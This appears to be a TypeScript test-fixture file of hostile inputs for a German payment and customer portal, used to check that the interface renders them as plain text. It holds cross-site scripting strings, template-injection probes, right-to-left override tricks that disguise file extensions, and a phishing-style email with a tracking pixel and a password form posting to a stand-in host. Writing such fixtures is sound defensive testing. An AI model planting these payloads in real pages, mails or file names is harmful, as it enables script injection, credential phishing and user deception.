/** What somebody writes who wants to break the portal: everything is shown as text, nothing of it runs or loads. */
const longWord = 'Donaudampfschifffahrtsgesellschaft'.repeat(6)
const turned = '\u202eEDOC\u202c'

export const hostileNotes: [string, string] = [
  '<img src=x onerror="alert(1)"><script>alert(2)</script> & &amp; {{7*7}} ${7*7}',
  `${longWord} 👩‍👩‍👧‍👦 ${turned} مرحبا بالعالم`,
]

export const hostileFeeTexts = ['<script>alert(1)</script> <b>', `${longWord.slice(0, 60)} ${turned} 👩‍👩‍👧‍👦`]

/** Shop and service of a payment. */
export const hostilePayments: [merchantName: string, feeTypeName: string][] = [
  ['<script>alert("Zahlung")</script>', '<b onclick=alert(1)>Parken</b> {{7*7}}'],
  [`${longWord.slice(0, 90)} ${turned} مرحبا 👩‍👩‍👧‍👦`, longWord.slice(0, 80)],
]

/** Number and kind of a bill; the number is another one for each customer. */
export const hostileReceipts: [invoiceNumber: string, typeText: string][] = [
  ['<u>2026</u>', '<script>alert("Beleg")</script>'],
  [longWord.slice(0, 30), `${longWord.slice(0, 80)} ${turned} مرحبا 👩‍👩‍👧‍👦`],
]

export const hostileTask = {
  businessIdentifier: `<img src=x onerror=alert(1)> ${longWord.slice(0, 160)} ${turned} 👩‍👩‍👧‍👦`,
  errorMessage: `<script>alert("Aufgabe")</script>\n  at ${longWord}.${longWord}(\u202eavaj.A\u202c:1)\n${hostileNotes[0]}`,
}

/** A name may hold letters only, so what it can do is to be long. */
export const hostilePerson = {
  firstName: 'مرحبا',
  lastName: longWord.slice(0, 40),
}

/** What a customer did, as the history tells it. */
export const hostileActivity = `Firmendaten geändert. Notiz: <img src=x onerror=alert(1)> ${longWord} ${turned}`

export const hostileDocuments: [filename: string, comment: string][] = [
  ['<img src=x onerror=alert(1)>.pdf', '</td><script>alert(1)</script>'],
  ['Rechnung\u202efdp.txt', `Umgedrehte Endung ${turned}`],
  [`${longWord}.pdf`, `${longWord.slice(0, 150)} 👩‍👩‍👧‍👦`],
]

const outside = 'https://tracker.example'

/** Subject, body. */
export const hostileMails: [subject: string, content: string][] = [
  [
    '<script>alert("Betreff")</script> "\'><img src=x onerror=alert(1)>',
    `<html><head><meta http-equiv="refresh" content="0;url=${outside}/moved"><base href="${outside}/">
<link rel="stylesheet" href="${outside}/style.css"><style>@import url(${outside}/more.css); p { color: #b00020 }</style>
<script>top.document.title = 'gehackt'</script></head>
<body background="${outside}/back.png" onload="top.document.title = 'gehackt'">
<p style="background: url(${outside}/p.png); font-weight: bold">Sehr geehrter Herr Fink, bitte handeln Sie sofort!</p>
<img src="${outside}/pixel.gif" width="1" height="1"><img src="x" onerror="top.document.title = 'gehackt'">
<iframe src="${outside}/frame.html"></iframe><object data="${outside}/object.swf"></object>
<svg><script>top.document.title = 'gehackt'</script></svg>
<form action="${outside}/login"><input name="password"><button>Passwort bestätigen</button></form>
<p><a href="javascript:top.document.title='gehackt'">Zum Konto</a> <a href="${outside}" target="_top">Zur Bank</a></p>
</body></html>`,
  ],
  [
    `${longWord} 👩‍👩‍👧‍👦 ${turned} مرحبا`,
    `</iframe></body></html>\n${longWord}\n${turned} مرحبا بالعالم\n${hostileNotes[0]}`,
  ],
]
